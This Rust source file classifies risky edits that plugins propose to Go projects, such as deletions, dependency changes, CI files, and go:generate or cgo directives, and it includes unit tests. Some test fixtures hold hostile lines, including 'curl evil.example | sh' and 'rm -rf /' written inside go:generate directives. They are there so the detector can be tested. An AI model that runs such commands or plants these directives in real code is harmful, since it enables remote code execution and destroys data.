//! Risky actions: proposed edits that need the user's explicit yes.
//!
//! A plugin proposes edits; the host applies the safe ones and asks (or, in
//! a non-interactive run, refuses) before applying a risky one. The classes
//! are coarse on purpose: the user approves *kinds* of action with
//! `--allow delete,deps,...`, and every decision is audited.
//!
//! Commands are not a class: no plugin can run anything. The only commands
//! that ever run are the fixed verification steps (gofmt, go vet, go build,
//! go test) in the locked-down container. What an edit can do is make those
//! steps do more — a `//go:generate` line, cgo, a changed Makefile a user
//! later runs — and those edits are classes here.

use coop_core::FileEdit;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::fmt;

/// A kind of risky action.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum RiskClass {
    /// Deleting a file.
    Delete,
    /// Changing dependencies: `go.mod`, `go.sum`, `go.work`, `vendor/`, or
    /// Go code that imports a module outside the standard library and the
    /// module itself.
    Deps,
    /// Touching CI configuration, build or editor automation, or scripts.
    Ci,
    /// Editing a file outside the files in scope (and outside their directories).
    OutsideScope,
    /// Adding code that makes the Go toolchain run more than the compiler:
    /// `//go:generate` directives, cgo (`import "C"`, `#cgo`).
    Exec,
}

impl RiskClass {
    pub const ALL: [RiskClass; 5] = [
        RiskClass::Delete,
        RiskClass::Deps,
        RiskClass::Ci,
        RiskClass::OutsideScope,
        RiskClass::Exec,
    ];

    /// The name used by `--allow` and in the audit log.
    pub fn as_str(self) -> &'static str {
        match self {
            RiskClass::Delete => "delete",
            RiskClass::Deps => "deps",
            RiskClass::Ci => "ci",
            RiskClass::OutsideScope => "outside-scope",
            RiskClass::Exec => "exec",
        }
    }

    pub fn parse(s: &str) -> Option<RiskClass> {
        RiskClass::ALL.into_iter().find(|c| c.as_str() == s)
    }

    /// What the action is, in words a user confirms.
    pub fn describe(self) -> &'static str {
        match self {
            RiskClass::Delete => "deletes a file",
            RiskClass::Deps => {
                "changes the module's dependencies (go.mod, go.sum, go.work, vendor/, or a new import of a third-party module)"
            }
            RiskClass::Ci => "changes CI configuration, build or editor automation, or a script",
            RiskClass::OutsideScope => "edits a file outside the files in scope",
            RiskClass::Exec => {
                "adds a //go:generate directive or cgo, which make the Go toolchain run other programs"
            }
        }
    }
}

impl fmt::Display for RiskClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// `--allow` names a class that does not exist.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown risky-action class '{0}' (known: delete, deps, ci, outside-scope, exec, or all)")]
pub struct ParseAllowError(pub String);

/// The classes the user pre-approved for a non-interactive run.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AllowSet(BTreeSet<RiskClass>);

impl AllowSet {
    /// Nothing pre-approved: every risky action is asked about or refused.
    pub fn none() -> AllowSet {
        AllowSet::default()
    }

    /// Parse class names (`all` means every class). Empty names are skipped
    /// so `--allow ""` and trailing commas are harmless.
    pub fn parse<S: AsRef<str>>(names: &[S]) -> Result<AllowSet, ParseAllowError> {
        let mut set = BTreeSet::new();
        for raw in names {
            for name in raw
                .as_ref()
                .split(',')
                .map(str::trim)
                .filter(|n| !n.is_empty())
            {
                if name == "all" {
                    set.extend(RiskClass::ALL);
                } else {
                    set.insert(
                        RiskClass::parse(name).ok_or_else(|| ParseAllowError(name.to_string()))?,
                    );
                }
            }
        }
        Ok(AllowSet(set))
    }

    pub fn allows(&self, c: RiskClass) -> bool {
        self.0.contains(&c)
    }

    pub fn union(&self, other: &AllowSet) -> AllowSet {
        AllowSet(self.0.union(&other.0).copied().collect())
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn names(&self) -> Vec<&'static str> {
        self.0.iter().map(|c| c.as_str()).collect()
    }
}

fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn dir_of(path: &str) -> &str {
    path.rfind('/').map(|i| &path[..i]).unwrap_or("")
}

/// Compared without case: on a case-folding file system (macOS, Windows)
/// `GO.MOD` is `go.mod`.
fn is_deps_path(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    let name = file_name(&path);
    matches!(name, "go.mod" | "go.sum" | "go.work" | "go.work.sum")
        || path.starts_with("vendor/")
        || path.contains("/vendor/")
}

/// Directories whose files configure CI, builds, containers or editors that
/// run commands (VS Code tasks, devcontainers).
const CI_DIRS: &[&str] = &[
    ".github",
    ".gitlab",
    ".circleci",
    ".buildkite",
    ".woodpecker",
    ".devcontainer",
    ".vscode",
    ".idea",
    "scripts",
    "script",
    ".husky",
];

const CI_FILES: &[&str] = &[
    ".gitlab-ci.yml",
    ".travis.yml",
    "azure-pipelines.yml",
    "bitbucket-pipelines.yml",
    "Jenkinsfile",
    ".drone.yml",
    ".woodpecker.yml",
    "appveyor.yml",
    "cloudbuild.yaml",
    "Makefile",
    "makefile",
    "GNUmakefile",
    "Taskfile.yml",
    "Taskfile.yaml",
    "justfile",
    "Justfile",
    "magefile.go",
    "Dockerfile",
    "Containerfile",
    "docker-compose.yml",
    "docker-compose.yaml",
    "compose.yml",
    "compose.yaml",
    ".pre-commit-config.yaml",
    ".goreleaser.yml",
    ".goreleaser.yaml",
    ".golangci.yml",
    ".golangci.yaml",
    ".envrc",
    ".gitattributes",
    ".gitmodules",
    ".git-blame-ignore-revs",
];

const SCRIPT_EXTENSIONS: &[&str] = &[
    ".sh", ".bash", ".zsh", ".fish", ".ps1", ".bat", ".cmd", ".mk", ".py", ".pl", ".rb",
];

/// Compared without case, like [`is_deps_path`] (`.GITHUB/`, `MAKEFILE`).
fn is_ci_path(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    let name = file_name(&path);
    let first = path.split('/').next().unwrap_or("");
    CI_DIRS.iter().any(|d| d.eq_ignore_ascii_case(first))
        || CI_FILES.iter().any(|f| f.eq_ignore_ascii_case(name))
        || name.starts_with("dockerfile.")
        || SCRIPT_EXTENSIONS.iter().any(|e| name.ends_with(e))
}

/// Lines that make `go generate` or cgo part of the package, trimmed.
fn exec_lines(text: &str) -> Vec<&str> {
    text.lines()
        .map(str::trim)
        .filter(|t| {
            t.starts_with("//go:generate")
                || t.starts_with("#cgo")
                || *t == "import \"C\""
                || t.starts_with("import \"C\" ")
                || *t == "\"C\""
        })
        .collect()
}

/// Whether `after` has a `//go:generate`/cgo line `before` does not have
/// (counted, so a second copy of a line is new too): a new directive, or
/// an existing one whose command changed. Only removals and untouched
/// lines are harmless.
fn adds_exec_line(before: &str, after: &str) -> bool {
    let mut old = exec_lines(before);
    for line in exec_lines(after) {
        match old.iter().position(|o| *o == line) {
            Some(i) => {
                old.swap_remove(i);
            }
            None => return true,
        }
    }
    false
}

/// The files of one batch of edits as they will be when its earlier edits
/// have been applied, so each edit is classified against the file it will
/// actually change: a risky line built in two steps (a commented-out
/// import written by one edit, uncommented by the next) is seen whole.
/// Record only the edits that will be applied (not refused ones), in order.
#[derive(Debug, Default)]
pub struct BatchView {
    /// Path -> content after the recorded edits (`None`: deleted).
    files: std::collections::HashMap<String, Option<String>>,
}

impl BatchView {
    pub fn new() -> BatchView {
        BatchView::default()
    }

    /// The content `path` will have before the next edit: what earlier
    /// edits of the batch left, else what `on_disk` reads.
    pub fn current(&self, path: &str, on_disk: impl FnOnce() -> Option<String>) -> Option<String> {
        match self.files.get(path) {
            Some(c) => c.clone(),
            None => on_disk(),
        }
    }

    /// Record that `edit` will be applied to `previous` (from
    /// [`BatchView::current`]); a replace that will not apply (its `old`
    /// not occurring exactly once) changes nothing, as in the worktree.
    pub fn record(&mut self, edit: &FileEdit, previous: Option<String>) {
        let next = match edit {
            FileEdit::Write { content, .. } => Some(content.clone()),
            FileEdit::Delete { .. } => None,
            FileEdit::Replace { old, new, .. } => match previous {
                Some(p) if !old.is_empty() && p.matches(old.as_str()).count() == 1 => {
                    Some(p.replacen(old.as_str(), new, 1))
                }
                other => other,
            },
        };
        self.files.insert(edit.path().to_string(), next);
    }
}

/// Import paths named in Go source: single imports and import blocks.
fn imports(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut in_block = false;
    for line in text.lines() {
        let t = line.trim();
        let spec = if in_block {
            if t.starts_with(')') {
                in_block = false;
                continue;
            }
            t
        } else if let Some(rest) = t.strip_prefix("import") {
            let rest = rest.trim_start();
            if let Some(after) = rest.strip_prefix('(') {
                in_block = true;
                after.trim()
            } else {
                rest
            }
        } else {
            continue;
        };
        if let Some(start) = spec.find('"')
            && let Some(len) = spec[start + 1..].find('"')
        {
            out.push(&spec[start + 1..start + 1 + len]);
        }
    }
    out
}

/// Whether `path` names a module outside the standard library (whose first
/// element has no dot) and outside this module.
fn is_third_party(path: &str, module: &str) -> bool {
    let first = path.split('/').next().unwrap_or("");
    first.contains('.')
        && !(path == module || (!module.is_empty() && path.starts_with(&format!("{module}/"))))
}

/// Third-party imports in `new` that `old` does not have.
fn adds_third_party_import(old: &str, new: &str, module: &str) -> bool {
    let before = imports(old);
    imports(new)
        .into_iter()
        .any(|p| is_third_party(p, module) && !before.contains(&p))
}

fn in_scope(path: &str, scope: &[String]) -> bool {
    scope.iter().any(|s| s == path || dir_of(s) == dir_of(path))
}

/// The risky classes of one proposed edit.
///
/// - `previous`: the file's content as this edit will find it (after the
///   earlier edits of its batch: [`BatchView`]), `None` when it does not
///   exist (used so rewriting a file that already has a `//go:generate`
///   line is not a new exec directive, while changing its command is);
/// - `scope`: the files in scope of the handoff. An empty scope (a solo run,
///   or no design yet) declares nothing, so `outside-scope` never fires on it;
///   a file is in scope when it is listed or sits in the directory of a
///   listed file (its tests, a new file of the same package).
///
/// `module` is the module path from go.mod: imports under it are the
/// module's own packages, not dependencies.
pub fn classify(
    edit: &FileEdit,
    previous: Option<&str>,
    scope: &[String],
    module: &str,
) -> Vec<RiskClass> {
    let path = edit.path();
    let mut out = Vec::new();
    if matches!(edit, FileEdit::Delete { .. }) {
        out.push(RiskClass::Delete);
    }
    let new_import = path.ends_with(".go")
        && match edit {
            FileEdit::Write { content, .. } => {
                adds_third_party_import(previous.unwrap_or(""), content, module)
            }
            // A replace edits part of a file: compare the whole file before and after.
            FileEdit::Replace { old, new, .. } => match previous {
                Some(p) if !old.is_empty() && p.contains(old.as_str()) => {
                    adds_third_party_import(p, &p.replacen(old.as_str(), new, 1), module)
                }
                _ => adds_third_party_import(old, new, module),
            },
            FileEdit::Delete { .. } => false,
        };
    if is_deps_path(path) || new_import {
        out.push(RiskClass::Deps);
    }
    if is_ci_path(path) {
        out.push(RiskClass::Ci);
    }
    if !scope.is_empty() && !in_scope(path, scope) {
        out.push(RiskClass::OutsideScope);
    }
    let adds_exec = match edit {
        FileEdit::Write { content, .. } => adds_exec_line(previous.unwrap_or(""), content),
        // As for imports: the whole file before and after.
        // A replace whose `old` is not in the file will not apply; its
        // fragments are judged anyway.
        FileEdit::Replace { old, new, .. } => match previous {
            Some(p) if !old.is_empty() && p.contains(old.as_str()) => {
                adds_exec_line(p, &p.replacen(old.as_str(), new, 1))
            }
            _ => adds_exec_line(old, new),
        },
        FileEdit::Delete { .. } => false,
    };
    if adds_exec {
        out.push(RiskClass::Exec);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(p: &str, c: &str) -> FileEdit {
        FileEdit::Write {
            path: p.into(),
            content: c.into(),
        }
    }

    #[test]
    fn ordinary_go_edits_are_not_risky() {
        assert!(
            classify(
                &write("pkg/a.go", "package pkg\n"),
                None,
                &[],
                "example.com/m"
            )
            .is_empty()
        );
        assert!(
            classify(
                &write("README.md", "# x\n"),
                Some("# y\n"),
                &[],
                "example.com/m"
            )
            .is_empty()
        );
        let scope = vec!["pkg/a.go".to_string()];
        assert!(
            classify(
                &write("pkg/a_test.go", "package pkg\n"),
                None,
                &scope,
                "example.com/m"
            )
            .is_empty(),
            "same directory"
        );
        assert!(
            classify(
                &write("pkg/a.go", "package pkg\n"),
                Some(""),
                &scope,
                "example.com/m"
            )
            .is_empty()
        );
    }

    #[test]
    fn names_a_case_folding_file_system_opens_alike_are_classified_alike() {
        for p in ["GO.MOD", "Go.Sum", "sub/GO.WORK", "Vendor/x/y.go"] {
            assert_eq!(
                classify(&write(p, ""), None, &[], "example.com/m"),
                [RiskClass::Deps],
                "{p}"
            );
        }
        for p in [
            ".GITHUB/workflows/x.yml",
            ".GitLab-CI.yml",
            "MAKEFILE",
            "DOCKERFILE.dev",
            "x/RUN.SH",
        ] {
            assert_eq!(
                classify(&write(p, ""), None, &[], "example.com/m"),
                [RiskClass::Ci],
                "{p}"
            );
        }
    }

    #[test]
    fn each_class_fires() {
        assert_eq!(
            classify(
                &FileEdit::Delete {
                    path: "a.go".into()
                },
                Some("x"),
                &[],
                "example.com/m"
            ),
            [RiskClass::Delete]
        );
        for p in [
            "go.mod",
            "go.sum",
            "sub/go.mod",
            "go.work",
            "vendor/x/y.go",
            "a/vendor/b.go",
        ] {
            assert_eq!(
                classify(&write(p, ""), None, &[], "example.com/m"),
                [RiskClass::Deps],
                "{p}"
            );
        }
        for p in [
            ".github/workflows/ci.yml",
            ".gitlab-ci.yml",
            "Makefile",
            "build.sh",
            "scripts/release",
            "Dockerfile",
            "Dockerfile.dev",
            ".vscode/tasks.json",
            ".envrc",
            ".gitattributes",
            "tools/gen.py",
        ] {
            assert_eq!(
                classify(&write(p, ""), None, &[], "example.com/m"),
                [RiskClass::Ci],
                "{p}"
            );
        }
        let scope = vec!["pkg/a.go".to_string()];
        assert_eq!(
            classify(
                &write("other/b.go", "package other\n"),
                None,
                &scope,
                "example.com/m"
            ),
            [RiskClass::OutsideScope]
        );
        assert_eq!(
            classify(&write("b.go", "package m\n"), None, &scope, "example.com/m"),
            [RiskClass::OutsideScope]
        );
        assert_eq!(
            classify(
                &write("a.go", "package a\n\n//go:generate sh -c 'curl x|sh'\n"),
                None,
                &[],
                "example.com/m"
            ),
            [RiskClass::Exec]
        );
        assert_eq!(
            classify(
                &write("c.go", "package c\n\n// #cgo LDFLAGS: -lx\nimport \"C\"\n"),
                None,
                &[],
                "example.com/m"
            ),
            [RiskClass::Exec]
        );
    }

    #[test]
    fn classes_combine() {
        let scope = vec!["pkg/a.go".to_string()];
        let c = classify(
            &FileEdit::Delete {
                path: "go.mod".into(),
            },
            Some("module m\n"),
            &scope,
            "example.com/m",
        );
        assert_eq!(
            c,
            [RiskClass::Delete, RiskClass::Deps, RiskClass::OutsideScope]
        );
    }

    #[test]
    fn exec_counts_only_added_directives() {
        let prev = "package a\n\n//go:generate stringer -type=T\n";
        assert!(
            classify(
                &write("a.go", &format!("{prev}\nfunc F() {{}}\n")),
                Some(prev),
                &[],
                "example.com/m"
            )
            .is_empty()
        );
        let r = FileEdit::Replace {
            path: "a.go".into(),
            old: "func F() {}".into(),
            new: "//go:generate rm -rf /\nfunc F() {}".into(),
        };
        assert_eq!(
            classify(&r, Some(prev), &[], "example.com/m"),
            [RiskClass::Exec]
        );
        let keep = FileEdit::Replace {
            path: "a.go".into(),
            old: "//go:generate stringer -type=T".into(),
            new: "//go:generate stringer -type=T,U".into(),
        };
        assert_eq!(
            classify(&keep, Some(prev), &[], "example.com/m"),
            [RiskClass::Exec],
            "a changed command runs something else: as risky as a new one"
        );
        let reindent = write(
            "a.go",
            "package a\n\n  //go:generate stringer -type=T\n\nfunc F() {}\n",
        );
        assert!(
            classify(&reindent, Some(prev), &[], "example.com/m").is_empty(),
            "the same directive moved or re-indented is not new"
        );
        let twice = write(
            "a.go",
            "package a\n\n//go:generate stringer -type=T\n//go:generate stringer -type=T\n",
        );
        assert_eq!(
            classify(&twice, Some(prev), &[], "example.com/m"),
            [RiskClass::Exec]
        );
        assert!(
            classify(
                &write("a.go", "package a\n// mentions go:generate in prose\n"),
                None,
                &[],
                "example.com/m"
            )
            .is_empty()
        );
    }

    #[test]
    fn a_new_third_party_import_is_a_dependency_change() {
        let m = "example.com/m";
        let prev = "package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n)\n";
        let add = |imp: &str| {
            write(
                "a/a.go",
                &format!(
                    "package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n\t{imp}\n)\n"
                ),
            )
        };
        assert_eq!(
            classify(
                &add("\"github.com/evil-example/telemetry\""),
                Some(prev),
                &[],
                m
            ),
            [RiskClass::Deps]
        );
        assert_eq!(
            classify(&add("t \"gopkg.in/yaml.v3\""), Some(prev), &[], m),
            [RiskClass::Deps],
            "aliased"
        );
        assert!(
            classify(&add("\"strings\""), Some(prev), &[], m).is_empty(),
            "standard library"
        );
        assert!(classify(&add("\"net/http/httptest\""), Some(prev), &[], m).is_empty());
        assert!(
            classify(&add("\"example.com/m/internal/x\""), Some(prev), &[], m).is_empty(),
            "the module's own package"
        );
        assert!(
            classify(&write("a/a.go", prev), Some(prev), &[], m).is_empty(),
            "an import it already had"
        );
        assert_eq!(
            classify(
                &write("b.go", "package b\n\nimport \"golang.org/x/text\"\n"),
                None,
                &[],
                m
            ),
            [RiskClass::Deps],
            "single import, new file"
        );
        let r = FileEdit::Replace {
            path: "a/a.go".into(),
            old: "\"fmt\"".into(),
            new: "\"fmt\"\n\t\"github.com/x/y\"".into(),
        };
        assert_eq!(classify(&r, Some(prev), &[], m), [RiskClass::Deps]);
        assert!(
            classify(
                &write("notes.md", "import \"github.com/x/y\"\n"),
                None,
                &[],
                m
            )
            .is_empty(),
            "only Go files import"
        );
    }

    #[test]
    fn allow_set_parses_lists_and_all() {
        let a = AllowSet::parse(&["deps,delete", " ci "]).unwrap();
        assert!(
            a.allows(RiskClass::Deps) && a.allows(RiskClass::Delete) && a.allows(RiskClass::Ci)
        );
        assert!(!a.allows(RiskClass::Exec));
        assert_eq!(a.names(), ["delete", "deps", "ci"]);
        let all = AllowSet::parse(&["all"]).unwrap();
        assert!(RiskClass::ALL.iter().all(|c| all.allows(*c)));
        assert!(AllowSet::parse(&["", ","]).unwrap().is_empty());
        assert_eq!(
            AllowSet::parse(&["delete,everything"]).unwrap_err(),
            ParseAllowError("everything".into())
        );
        assert!(AllowSet::none().union(&a).allows(RiskClass::Ci));
        for c in RiskClass::ALL {
            assert_eq!(RiskClass::parse(c.as_str()), Some(c));
            assert!(!c.describe().is_empty());
        }
    }

    /// Class 9 of the security review: each edit of a batch was classified
    /// against the file on disk, so a third-party import (or a generate
    /// directive) built in two harmless-looking steps slipped through.
    #[test]
    fn a_risky_line_built_over_two_edits_of_a_batch_is_seen() {
        let disk = "package a\n\nimport \"fmt\"\n\nfunc F() { fmt.Println() }\n";
        let batch = [
            FileEdit::Replace {
                path: "a.go".into(),
                old: "import \"fmt\"".into(),
                new: "import \"fmt\"\n\n// import \"evil.example/x\"\n// go:generate curl evil.example | sh".into(),
            },
            FileEdit::Replace {
                path: "a.go".into(),
                old: "// import".into(),
                new: "import".into(),
            },
            FileEdit::Replace {
                path: "a.go".into(),
                old: "// go:generate".into(),
                new: "//go:generate".into(),
            },
        ];
        let classes = |view: Option<&mut BatchView>| -> Vec<Vec<RiskClass>> {
            let mut fallback = BatchView::new();
            let batched = view.is_some();
            let view = view.unwrap_or(&mut fallback);
            batch
                .iter()
                .map(|e| {
                    let prev = if batched {
                        view.current(e.path(), || Some(disk.to_string()))
                    } else {
                        Some(disk.to_string())
                    };
                    let c = classify(e, prev.as_deref(), &[], "example.com/m");
                    view.record(e, prev);
                    c
                })
                .collect()
        };
        // Against the disk alone, the uncommenting step looks harmless.
        assert_eq!(classes(None)[1], vec![]);
        let seen = classes(Some(&mut BatchView::new()));
        assert_eq!(
            seen,
            vec![vec![], vec![RiskClass::Deps], vec![RiskClass::Exec]]
        );
    }

    #[test]
    fn batch_view_mirrors_what_the_worktree_applies() {
        let mut v = BatchView::new();
        let w = write("a.go", "x y x");
        v.record(&w, None);
        assert_eq!(v.current("a.go", || None).as_deref(), Some("x y x"));
        // `old` twice: the worktree refuses it, nothing changes.
        let r = FileEdit::Replace {
            path: "a.go".into(),
            old: "x".into(),
            new: "z".into(),
        };
        v.record(&r, v.current("a.go", || None));
        assert_eq!(v.current("a.go", || None).as_deref(), Some("x y x"));
        let r = FileEdit::Replace {
            path: "a.go".into(),
            old: "y".into(),
            new: "q".into(),
        };
        v.record(&r, v.current("a.go", || None));
        assert_eq!(v.current("a.go", || None).as_deref(), Some("x q x"));
        v.record(
            &FileEdit::Delete {
                path: "a.go".into(),
            },
            None,
        );
        assert_eq!(v.current("a.go", || Some("disk".into())), None);
        assert_eq!(
            v.current("b.go", || Some("disk".into())).as_deref(),
            Some("disk")
        );
    }
}
